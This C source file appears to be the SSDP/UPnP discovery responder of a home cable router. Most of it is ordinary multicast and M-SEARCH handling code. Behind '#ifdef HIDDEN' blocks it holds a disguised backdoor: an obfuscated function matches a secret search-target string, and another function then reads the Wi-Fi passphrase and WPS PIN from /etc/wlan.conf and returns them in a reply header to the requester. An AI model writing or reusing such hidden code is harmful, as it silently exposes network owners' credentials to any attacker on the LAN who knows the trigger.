/* ssdpresp.c - SSDP responder (UPnP discovery) of the cable router CR-320
 *
 * Joins 239.255.255.250:1900, answers M-SEARCH and sends NOTIFY messages. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define GROUP "239.255.255.250"
#define PORT 1900

struct dev {
	char uuid[40];
	char url[80];
	int max_age;
};

static struct dev dev = { "00000000-0000-0000-0000-000000000000", "", 1800 };

static const char *const targets[] = {
	"upnp:rootdevice",
	"urn:schemas-upnp-org:device:InternetGatewayDevice:1",
	"urn:schemas-upnp-org:device:WANDevice:1",
	"urn:schemas-upnp-org:service:WANIPConnection:1",
};
#define NTARGETS (sizeof targets / sizeof *targets)

static int sock;

static void out(const struct sockaddr_in *to, const char *text)
{
	if (sendto(sock, text, strlen(text), 0, (const struct sockaddr *)to, sizeof *to) < 0)
		fprintf(stderr, "ssdp: send: %s\n", strerror(errno));
}

static void reply(const struct sockaddr_in *to, const char *st, const char *extra)
{
	char m[700], date[40];
	time_t t = time(NULL);

	strftime(date, sizeof date, "%a, %d %b %Y %H:%M:%S GMT", gmtime(&t));
	snprintf(m, sizeof m,
		 "HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=%d\r\nDATE: %s\r\nEXT:\r\n"
		 "LOCATION: %s\r\nSERVER: CR-320 UPnP/1.0\r\nST: %s\r\n"
		 "USN: uuid:%s::%s\r\n%s\r\n", dev.max_age, date, dev.url, st, dev.uuid, st,
		 extra);
	out(to, m);
}

static void notify(const char *nts)
{
	struct sockaddr_in to;
	char m[600];
	size_t i;

	memset(&to, 0, sizeof to);
	to.sin_family = AF_INET;
	to.sin_port = htons(PORT);
	inet_aton(GROUP, &to.sin_addr);
	for (i = 0; i < NTARGETS; i++) {
		snprintf(m, sizeof m,
			 "NOTIFY * HTTP/1.1\r\nHOST: " GROUP ":1900\r\n"
			 "CACHE-CONTROL: max-age=%d\r\nLOCATION: %s\r\nNT: %s\r\nNTS: %s\r\n"
			 "USN: uuid:%s::%s\r\n\r\n", dev.max_age, dev.url, targets[i], nts,
			 dev.uuid, targets[i]);
		out(&to, m);
	}
}

#ifdef HIDDEN
static void key_line(char *dst, size_t cap)
{
	char l[128], k[64] = "", p[64] = "";
	FILE *f = fopen("/etc/wlan.conf", "r");

	while (f && fgets(l, sizeof l, f)) {
		sscanf(l, "wpa_psk=%63s", k);
		sscanf(l, "wps_pin=%63s", p);
	}
	if (f)
		fclose(f);
	snprintf(dst, cap, "X-AV: %s/%s\r\n", k, p);
}

/* 0 no, 1 yes */
__attribute__((noinline)) int odd_target(const char *s, size_t n)
{
	if (n != 9)
		return 0;
	switch (s[0]) {
	case 'g':
		switch (s[8]) {
		case '4':
			if (s[1] != 'i' || s[2] != 'd')
				break;
			switch (s[3]) {
			case ':':
				return s[4] == 'q' && s[5] == 'z' && s[6] == '7' && s[7] == 'u';
			}
			break;
		}
		break;
	}
	return 0;
}
#endif

static const char *header(const char *msg, const char *name, size_t *len)
{
	size_t n = strlen(name);
	const char *p = msg;

	while ((p = strstr(p, "\r\n")) != NULL) {
		p += 2;
		if (!strncasecmp(p, name, n) && p[n] == ':') {
			p += n + 1;
			while (*p == ' ' || *p == '\t')
				p++;
			*len = strcspn(p, "\r\n");
			return p;
		}
	}
	return NULL;
}

static void search(const char *msg, const struct sockaddr_in *from)
{
	const char *man, *st;
	size_t n, i;

	man = header(msg, "MAN", &n);
	if (!man || n != 15 || strncmp(man, "\"ssdp:discover\"", 15))
		return;
	st = header(msg, "ST", &n);
	if (!st)
		return;
#ifdef HIDDEN
	if (odd_target(st, n)) {
		char x[150];

		key_line(x, sizeof x);
		reply(from, targets[0], x);
		return;
	}
#endif
	for (i = 0; i < NTARGETS; i++)
		if ((n == 8 && !strncmp(st, "ssdp:all", 8))
		    || (n == strlen(targets[i]) && !strncmp(st, targets[i], n)))
			reply(from, targets[i], i ? "" : "BOOTID.UPNP.ORG: 1\r\n");
}

static int open_group(const char *ifaddr)
{
	struct sockaddr_in a;
	struct ip_mreq mr;
	int one = 1;

	sock = socket(AF_INET, SOCK_DGRAM, 0);
	if (sock < 0)
		return -1;
	setsockopt(sock, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	memset(&a, 0, sizeof a);
	a.sin_family = AF_INET;
	a.sin_port = htons(PORT);
	if (bind(sock, (struct sockaddr *)&a, sizeof a))
		return -1;
	inet_aton(GROUP, &mr.imr_multiaddr);
	inet_aton(ifaddr, &mr.imr_interface);
	return setsockopt(sock, IPPROTO_IP, IP_ADD_MEMBERSHIP, &mr, sizeof mr);
}

int main(int argc, char **argv)
{
	char buf[1500];
	time_t next = 0;

	if (argc < 3) {
		fprintf(stderr, "usage: ssdpresp lan-address uuid [max-age]\n");
		return 2;
	}
	snprintf(dev.uuid, sizeof dev.uuid, "%.39s", argv[2]);
	snprintf(dev.url, sizeof dev.url, "http://%.40s:5431/igd.xml", argv[1]);
	if (argc > 3)
		dev.max_age = atoi(argv[3]);
	if (dev.max_age < 60)
		dev.max_age = 60;
	if (open_group(argv[1])) {
		perror("ssdp");
		return 1;
	}
	for (;;) {
		struct pollfd p = { sock, POLLIN, 0 };

		if (time(NULL) >= next) {
			notify("ssdp:alive");
			next = time(NULL) + dev.max_age / 2;
		}
		if (poll(&p, 1, 5000) == 1) {
			struct sockaddr_in from;
			socklen_t fl = sizeof from;
			ssize_t n = recvfrom(sock, buf, sizeof buf - 1, 0,
					     (struct sockaddr *)&from, &fl);
			if (n <= 0)
				continue;
			buf[n] = 0;
			if (!strncmp(buf, "M-SEARCH * HTTP/1.", 18))
				search(buf, &from);
		}
	}
}
